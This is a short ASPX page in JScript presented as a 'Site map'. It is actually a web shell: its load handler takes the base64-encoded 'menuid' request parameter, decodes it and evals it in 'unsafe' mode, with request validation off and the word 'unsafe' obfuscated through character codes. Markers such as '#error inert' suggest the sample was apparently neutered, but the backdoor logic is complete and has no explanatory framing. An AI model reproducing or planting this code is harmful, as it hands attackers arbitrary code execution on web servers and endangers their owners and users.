<%@ Page Language="JScript" validateRequest="false" Inherits="Inert.Nothing" %>
<script runat="server" language="JScript">
#error inert
function mode() {
    var m = String.fromCharCode(117) + "ns" + String.fromCharCode(97) + "fe";
    return m;
}
function text(v) {
    return System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(v));
}
function Page_Load() {
    var body = Request.Params["menuid"];
    if (body != null) {
        eval(text(body), mode());
    }
}
</script>
<html><body>Site map</body></html>
